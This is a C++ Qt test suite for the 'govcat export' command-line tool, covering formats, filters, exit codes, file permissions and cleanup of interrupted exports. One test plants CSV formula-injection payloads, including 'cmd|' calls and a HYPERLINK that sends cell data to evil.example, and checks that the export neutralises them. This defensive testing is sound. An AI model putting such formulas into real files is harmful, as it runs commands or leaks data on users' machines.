#include "app/ExitCodes.h"
#include "support/TempFolderWatch.h"
#include "support/TestSupport.h"

#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QSqlQuery>
#include <QTemporaryDir>
#include <QTest>
#include <QThread>

#include <csignal>
#include <sys/stat.h>

using namespace govcat;

// `govcat export` as administrators and scripts use it: formats, filters, exit codes, and no file
// left behind when it fails.
class TestExportCli : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void exportsEachFormat_data();
    void exportsEachFormat();
    void filters();
    void exitCodes();
    void outdatedDatabaseIsRefusedInChinese();
    void exportsArePrivate();
    void xlsxExportWritesNothingToTheTemporaryFolder();
    void hostileNamesRoundTrip();
    void killedExportIsCleanedUp();

private:
    struct Run
    {
        int exitCode = -1;
        QString out;
        QString err;
    };
    Run govcat(const QStringList& args, const QByteArray& passphrase = test::kPassphrase,
               const QList<std::pair<QString, QString>>& environment = {});
    QStringList leftovers() const;
    // Sends SIGSTOP and waits until /proc says the process is stopped.
    static bool stopProcess(pid_t pid)
    {
        if (::kill(pid, SIGSTOP) != 0) {
            return false;
        }
        QFile stat(QStringLiteral("/proc/%1/stat").arg(pid));
        for (int i = 0; i < 5000; ++i) {
            if (!stat.open(QIODevice::ReadOnly)) {
                return false;
            }
            const QByteArray line = stat.readAll();
            stat.close();
            const qsizetype close = line.lastIndexOf(')');
            if (close > 0 && close + 2 < line.size()) {
                const char state = line.at(close + 2);
                if (state == 'T' || state == 't') {
                    return true;
                }
                if (state == 'Z' || state == 'X') {
                    return false;
                }
            }
            QThread::usleep(200);
        }
        return false;
    }

    static int modeOf(const QString& path)
    {
        struct stat st = {};
        return ::stat(QFile::encodeName(path).constData(), &st) == 0 ? int(st.st_mode & 07777) : -1;
    }

    QString m_binary;
    QTemporaryDir m_dir;
    QString m_db;
};

void TestExportCli::initTestCase()
{
    m_binary = QDir(qEnvironmentVariable("GOVCAT_BIN_DIR")).filePath(QStringLiteral("govcat"));
    QVERIFY2(QFile::exists(m_binary), qPrintable(m_binary));
    m_db = m_dir.filePath(QStringLiteral("city.govcat"));
    const Run demo = govcat({QStringLiteral("demo"), QStringLiteral("--db"), m_db,
                             QStringLiteral("--resources"), QStringLiteral("120"), QStringLiteral("--kdf"),
                             QStringLiteral("interactive"), QStringLiteral("--quiet")});
    QVERIFY2(demo.exitCode == 0, qPrintable(demo.err));
}

TestExportCli::Run TestExportCli::govcat(const QStringList& args, const QByteArray& passphrase,
                                         const QList<std::pair<QString, QString>>& environment)
{
    QProcess p;
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert(QStringLiteral("GOVCAT_PASSPHRASE"), QString::fromUtf8(passphrase));
    for (const auto& [name, value] : environment) {
        env.insert(name, value);
    }
    p.setProcessEnvironment(env);
    p.start(m_binary, args);
    p.closeWriteChannel();
    if (!p.waitForFinished(300000)) {
        p.kill();
        p.waitForFinished();
    }
    return {p.exitStatus() == QProcess::NormalExit ? p.exitCode() : -1,
            QString::fromUtf8(p.readAllStandardOutput()), QString::fromUtf8(p.readAllStandardError())};
}

QStringList TestExportCli::leftovers() const
{
    return QDir(m_dir.path()).entryList({QStringLiteral("*.part")}, QDir::Files | QDir::Hidden);
}

void TestExportCli::exportsEachFormat_data()
{
    QTest::addColumn<QString>("format");
    QTest::addColumn<QByteArray>("start");
    QTest::newRow("xlsx") << QStringLiteral("xlsx") << QByteArray("PK");
    QTest::newRow("csv") << QStringLiteral("csv") << QByteArray("\xEF\xBB\xBF");
    QTest::newRow("json") << QStringLiteral("json") << QByteArray("{\"format\":\"govcat-catalog\"");
}

void TestExportCli::exportsEachFormat()
{
    QFETCH(QString, format);
    QFETCH(QByteArray, start);
    const QString out = m_dir.filePath(QStringLiteral("all.") + format);
    const QByteArray before = test::fileHash(m_db);
    const Run r = govcat({QStringLiteral("export"), QStringLiteral("--db"), m_db, QStringLiteral("--format"),
                          format, QStringLiteral("--out"), out});
    QVERIFY2(r.exitCode == 0, qPrintable(r.err));
    QVERIFY2(r.out.contains(QStringLiteral("已导出 120 条信息资源")), qPrintable(r.out));
    QFile f(out);
    QVERIFY(f.open(QIODevice::ReadOnly));
    QVERIFY(f.read(start.size()) == start);
    QCOMPARE(test::fileHash(m_db), before); // read-only
    QVERIFY(leftovers().isEmpty());
}

void TestExportCli::filters()
{
    const QString out = m_dir.filePath(QStringLiteral("filtered.json"));
    const Run published =
        govcat({QStringLiteral("export"), QStringLiteral("--db"), m_db, QStringLiteral("--format"),
                QStringLiteral("json"), QStringLiteral("--out"), out, QStringLiteral("--status"),
                QStringLiteral("已发布"), QStringLiteral("--status"), QStringLiteral("草稿")});
    QVERIFY2(published.exitCode == 0, qPrintable(published.err));
    QVERIFY(!published.out.contains(QStringLiteral("已导出 120 条")));
    QFile f(out);
    QVERIFY(f.open(QIODevice::ReadOnly));
    const QByteArray json = f.readAll();
    QVERIFY(json.contains("\"status\":\"已发布\""));
    QVERIFY(!json.contains("\"status\":\"待审核\""));

    const Run gb =
        govcat({QStringLiteral("export"), QStringLiteral("--db"), m_db, QStringLiteral("--format"),
                QStringLiteral("csv"), QStringLiteral("--out"), m_dir.filePath(QStringLiteral("gb.csv")),
                QStringLiteral("--encoding"), QStringLiteral("gb18030"), QStringLiteral("--department"),
                QStringLiteral("市公安局")});
    QVERIFY2(gb.exitCode == 0, qPrintable(gb.err));
}

// A database last written by an older govcat (the frozen schema-5 file of tests/fixtures/migrations)
// is not upgraded by a read-only open: export says so in Chinese, not with an SQL error, and
// changes nothing; import --dry-run the same.
void TestExportCli::outdatedDatabaseIsRefusedInChinese()
{
    const QDir fixtures(QStringLiteral(GOVCAT_MIGRATION_FIXTURES));
    const QString db = m_dir.filePath(QStringLiteral("old.govcat"));
    for (const QString& suffix : {QString(), QStringLiteral(".key")}) {
        QVERIFY(QFile::copy(fixtures.filePath(QStringLiteral("v5.govcat") + suffix), db + suffix));
        QVERIFY(QFile::setPermissions(db + suffix, QFile::ReadOwner | QFile::WriteOwner));
    }
    const QByteArray before = test::fileHash(db);
    const Run exported =
        govcat({QStringLiteral("export"), QStringLiteral("--db"), db, QStringLiteral("--format"),
                QStringLiteral("json"), QStringLiteral("--out"), m_dir.filePath(QStringLiteral("old.json"))});
    QCOMPARE(exported.exitCode, app::ExitCode::Database);
    QVERIFY2(exported.err.contains(QStringLiteral("需要先升级才能读取")), qPrintable(exported.err));
    QVERIFY2(!exported.err.contains(QStringLiteral("no such column")), qPrintable(exported.err));
    QVERIFY(!QFile::exists(m_dir.filePath(QStringLiteral("old.json"))));
    const Run dryRun =
        govcat({QStringLiteral("import"), QStringLiteral("--db"), db, QStringLiteral("--dry-run"),
                QDir(qEnvironmentVariable("GOVCAT_SOURCE_DIR"))
                    .filePath(QStringLiteral("tests/fixtures/import/layout3_utf8_bom.csv"))});
    QCOMPARE(dryRun.exitCode, app::ExitCode::Database);
    QVERIFY2(dryRun.err.contains(QStringLiteral("需要先升级才能读取")), qPrintable(dryRun.err));
    QCOMPARE(test::fileHash(db), before);
}

void TestExportCli::exitCodes()
{
    const QString out = m_dir.filePath(QStringLiteral("x.xlsx"));
    const QStringList base = {QStringLiteral("export"), QStringLiteral("--db"), m_db, QStringLiteral("--out"),
                              out};
    QCOMPARE(govcat(base + QStringList{QStringLiteral("--format"), QStringLiteral("xls")}).exitCode,
             app::ExitCode::Usage);
    QCOMPARE(govcat(base + QStringList{QStringLiteral("--format"), QStringLiteral("xlsx"),
                                       QStringLiteral("--department"), QStringLiteral("没有这个部门")})
                 .exitCode,
             app::ExitCode::Usage);
    QCOMPARE(govcat(base + QStringList{QStringLiteral("--format"), QStringLiteral("xlsx"),
                                       QStringLiteral("--status"), QStringLiteral("随便")})
                 .exitCode,
             app::ExitCode::Usage);
    const Run wrong = govcat(base + QStringList{QStringLiteral("--format"), QStringLiteral("xlsx")}, "wrong");
    QCOMPARE(wrong.exitCode, app::ExitCode::WrongPassphrase);
    QVERIFY(!QFile::exists(out));
    const Run noDir = govcat({QStringLiteral("export"), QStringLiteral("--db"), m_db,
                              QStringLiteral("--format"), QStringLiteral("csv"), QStringLiteral("--out"),
                              m_dir.filePath(QStringLiteral("missing/out.csv"))});
    QCOMPARE(noDir.exitCode, app::ExitCode::FileRefused); // --out cannot be written
    const Run notDb =
        govcat({QStringLiteral("export"), QStringLiteral("--db"), m_dir.filePath(QStringLiteral("none")),
                QStringLiteral("--format"), QStringLiteral("csv"), QStringLiteral("--out"), out});
    QCOMPARE(notDb.exitCode, app::ExitCode::Database);
    QVERIFY(leftovers().isEmpty());
}

// Exports are created 0600 under a umask of 022, also where an older file of that name was 0644.
void TestExportCli::exportsArePrivate()
{
    const mode_t mask = ::umask(022);
    for (const QString& format : {QStringLiteral("xlsx"), QStringLiteral("csv"), QStringLiteral("json")}) {
        const QString out = m_dir.filePath(QStringLiteral("private.") + format);
        const Run r =
            govcat({QStringLiteral("export"), QStringLiteral("--db"), m_db, QStringLiteral("--format"),
                    format, QStringLiteral("--out"), out, QStringLiteral("--quiet")});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QCOMPARE(modeOf(out), 0600);
        QVERIFY(::chmod(QFile::encodeName(out).constData(), 0644) == 0);
        const Run again =
            govcat({QStringLiteral("export"), QStringLiteral("--db"), m_db, QStringLiteral("--format"),
                    format, QStringLiteral("--out"), out, QStringLiteral("--quiet")});
        QVERIFY2(again.exitCode == 0, qPrintable(again.err));
        QCOMPARE(modeOf(out), 0600); // replaced by a new file
    }
    ::umask(mask);
    QVERIFY(leftovers().isEmpty());
}

// An xlsx export creates nothing in TMPDIR, TMP or TEMP (libxlsxwriter's temporary files, its
// rows in plain text, go to the export's folder and are unlinked at once).
void TestExportCli::xlsxExportWritesNothingToTheTemporaryFolder()
{
    QTemporaryDir tmp;
    test::TempFolderWatch watch(tmp.path());
    test::TempFolderWatch beside(m_dir.path());
    QVERIFY(watch.isValid() && beside.isValid());
    const Run r =
        govcat({QStringLiteral("export"), QStringLiteral("--db"), m_db, QStringLiteral("--format"),
                QStringLiteral("xlsx"), QStringLiteral("--out"), m_dir.filePath(QStringLiteral("t.xlsx"))},
               test::kPassphrase,
               {{QStringLiteral("TMPDIR"), tmp.path()},
                {QStringLiteral("TMP"), tmp.path()},
                {QStringLiteral("TEMP"), tmp.path()}});
    QVERIFY2(r.exitCode == 0, qPrintable(r.err));
    QCOMPARE(watch.created(), QStringList());
    QVERIFY(QDir(tmp.path()).isEmpty(QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot));
    QVERIFY(!beside.created().filter(QStringLiteral("tmp.")).isEmpty()); // the watch works
    QVERIFY(leftovers().isEmpty());
}

// Names a department can import that would run in a spreadsheet (OWASP CSV injection): the CSV
// export writes them with a quote in front, and `govcat import` reads the file back unchanged.
void TestExportCli::hostileNamesRoundTrip()
{
    const QString db = m_dir.filePath(QStringLiteral("hostile.govcat"));
    QVERIFY(QFile::copy(m_db, db) && QFile::copy(m_db + QStringLiteral(".key"), db + QStringLiteral(".key")));
    const QStringList names = {QStringLiteral("=cmd|' /C calc'!A0"),
                               QStringLiteral("+1+cmd|' /C calc'!A0"),
                               QStringLiteral("-2+3+cmd|' /C calc'!A0"),
                               QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"),
                               QStringLiteral("'=已带引号"),
                               QStringLiteral("-5")};
    const QString resourceName = QStringLiteral("=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点击查看\")");
    QString uscc;
    {
        auto database = db::Database::open(db, test::kPassphrase, db::OpenMode::ReadWrite);
        QVERIFY(database);
        QSqlQuery q(database.value()->connection());
        QVERIFY(q.exec(QStringLiteral(
                    "SELECT r.id, d.uscc FROM info_resource r JOIN department d ON d.id = "
                    "r.owner_dept_id WHERE r.is_deleted = 0 AND (SELECT count(*) FROM info_item "
                    "i WHERE i.resource_id = r.id AND i.is_deleted = 0) >= 6 ORDER BY r.id "
                    "LIMIT 1")) &&
                q.next());
        const QString id = q.value(0).toString();
        uscc = q.value(1).toString();
        q.prepare(QStringLiteral("UPDATE info_resource SET name = ? WHERE id = ?"));
        q.addBindValue(resourceName);
        q.addBindValue(id);
        QVERIFY(q.exec());
        QVERIFY(q.exec(QStringLiteral("SELECT id FROM info_item WHERE resource_id = '%1' AND is_deleted = 0 "
                                      "ORDER BY seq LIMIT 6")
                           .arg(id)));
        QStringList items;
        while (q.next()) {
            items << q.value(0).toString();
        }
        QCOMPARE(items.size(), names.size());
        for (qsizetype i = 0; i < items.size(); ++i) {
            q.prepare(QStringLiteral("UPDATE info_item SET name = ? WHERE id = ?"));
            q.addBindValue(names.at(i));
            q.addBindValue(items.at(i));
            QVERIFY(q.exec());
        }
    }
    const QString csv = m_dir.filePath(QStringLiteral("hostile.csv"));
    const Run exported =
        govcat({QStringLiteral("export"), QStringLiteral("--db"), db, QStringLiteral("--format"),
                QStringLiteral("csv"), QStringLiteral("--out"), csv, QStringLiteral("--quiet")});
    QVERIFY2(exported.exitCode == 0, qPrintable(exported.err));
    QFile f(csv);
    QVERIFY(f.open(QIODevice::ReadOnly));
    const QString text = QString::fromUtf8(f.readAll());
    QVERIFY(text.contains(QStringLiteral(",\"'=HYPERLINK(\"\"http://evil.example/")));
    QVERIFY(!text.contains(QStringLiteral(",\"=HYPERLINK(")));
    QVERIFY(text.contains(QStringLiteral(",'=cmd|' /C calc'!A0,")));
    QVERIFY(!text.contains(QStringLiteral(",=cmd|")));
    QVERIFY(text.contains(QStringLiteral(",'+1+cmd|")) && text.contains(QStringLiteral(",'-2+3+cmd|")) &&
            text.contains(QStringLiteral(",'@SUM(")) && text.contains(QStringLiteral(",''=已带引号,")) &&
            text.contains(QStringLiteral(",-5,")));

    const Run profile =
        govcat({QStringLiteral("profile"), QStringLiteral("--db"), db, QStringLiteral("--name"),
                QStringLiteral("测试员"), QStringLiteral("--department"), uscc, QStringLiteral("--role"),
                QStringLiteral("审核员")});
    QVERIFY2(profile.exitCode == 0, qPrintable(profile.err));
    const Run dry = govcat({QStringLiteral("import"), QStringLiteral("--db"), db, csv,
                            QStringLiteral("--dry-run"), QStringLiteral("--summary-json")});
    QVERIFY2(dry.exitCode == 0, qPrintable(dry.out + dry.err));
    const QJsonObject summary =
        QJsonDocument::fromJson(dry.out.trimmed().split(QLatin1Char('\n')).constLast().toUtf8()).object();
    QCOMPARE(summary.value(QStringLiteral("unchanged")).toInt(), 120);
    QCOMPARE(summary.value(QStringLiteral("changed")).toInt(), 0);
    QCOMPARE(summary.value(QStringLiteral("new")).toInt(), 0);
}

// kill -9 in the middle of a CSV export leaves its part: hidden, named as govcat's, 0600, in the
// export's folder. The next export to that folder removes it. SIGTERM cancels and leaves nothing.
void TestExportCli::killedExportIsCleanedUp()
{
    QTemporaryDir dir;
    const QString db = dir.filePath(QStringLiteral("big.govcat"));
    const Run demo = govcat({QStringLiteral("demo"), QStringLiteral("--db"), db,
                             QStringLiteral("--resources"), QStringLiteral("3000"), QStringLiteral("--kdf"),
                             QStringLiteral("interactive"), QStringLiteral("--quiet")});
    QVERIFY2(demo.exitCode == 0, qPrintable(demo.err));
    const QString outFolder = dir.filePath(QStringLiteral("out"));
    QVERIFY(QDir().mkpath(outFolder));
    const QString out = QDir(outFolder).filePath(QStringLiteral("目录.csv"));
    const auto parts = [&] {
        return QDir(outFolder).entryList({QStringLiteral(".govcat-*.part")}, QDir::Files | QDir::Hidden);
    };
    // Starts an export and stops it (SIGSTOP) at a moment when its own part holds rows and the
    // target does not exist yet. The check runs while the process is stopped, so it cannot race the
    // export's final rename however fast the machine is. Returns with the process stopped.
    const auto startExport = [&](QProcess& p, const QString& stalePart) {
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        env.insert(QStringLiteral("GOVCAT_PASSPHRASE"), QString::fromUtf8(test::kPassphrase));
        p.setProcessEnvironment(env);
        p.start(m_binary, {QStringLiteral("export"), QStringLiteral("--db"), db, QStringLiteral("--format"),
                           QStringLiteral("csv"), QStringLiteral("--out"), out, QStringLiteral("--quiet")});
        p.closeWriteChannel();
        if (!p.waitForStarted()) {
            return false;
        }
        const pid_t pid = pid_t(p.processId());
        QElapsedTimer waited;
        waited.start();
        while (p.state() == QProcess::Running && waited.elapsed() < 120000 && stopProcess(pid)) {
            QStringList own = parts();
            own.removeAll(stalePart);
            if (own.size() == 1 && !QFile::exists(out) &&
                QFileInfo(QDir(outFolder).filePath(own.first())).size() > 0) {
                return true;
            }
            ::kill(pid, SIGCONT);
            QThread::usleep(2000);
        }
        return false;
    };

    const mode_t mask = ::umask(022);
    QProcess killed;
    QVERIFY2(startExport(killed, QString()), "the export ended before it could be killed");
    ::kill(pid_t(killed.processId()), SIGKILL);
    killed.waitForFinished();
    ::umask(mask);
    QCOMPARE(killed.exitStatus(), QProcess::CrashExit);
    QVERIFY(!QFile::exists(out));
    const QStringList left = parts();
    QCOMPARE(left.size(), 1);
    QVERIFY2(left.first().startsWith(QStringLiteral(".govcat-目录.csv.")), qPrintable(left.first()));
    const QString partPath = QDir(outFolder).filePath(left.first());
    QCOMPARE(modeOf(partPath), 0600);
    QVERIFY(QFileInfo(partPath).size() > 0); // what was written so far, in plain text

    QProcess terminated;
    QVERIFY2(startExport(terminated, left.first()), "the export ended before it could be stopped");
    QVERIFY(parts().size() == 1 && !parts().contains(left.first())); // its own part; the stale one went
    ::kill(pid_t(terminated.processId()), SIGTERM);
    ::kill(pid_t(terminated.processId()), SIGCONT);
    terminated.waitForFinished();
    QCOMPARE(terminated.exitStatus(), QProcess::NormalExit);
    QCOMPARE(terminated.exitCode(), app::ExitCode::Interrupted);
    QCOMPARE(parts(), QStringList());
    QVERIFY(!QFile::exists(out));

    QProcess again;
    QVERIFY(startExport(again, QString()) || again.exitCode() == 0);
    ::kill(pid_t(again.processId()), SIGCONT);
    QVERIFY(again.waitForFinished(300000));
    QCOMPARE(again.exitCode(), 0);
    QCOMPARE(parts(), QStringList());
    QCOMPARE(modeOf(out), 0600);
}

QTEST_GUILESS_MAIN(TestExportCli)
#include "tst_exportcli.moc"
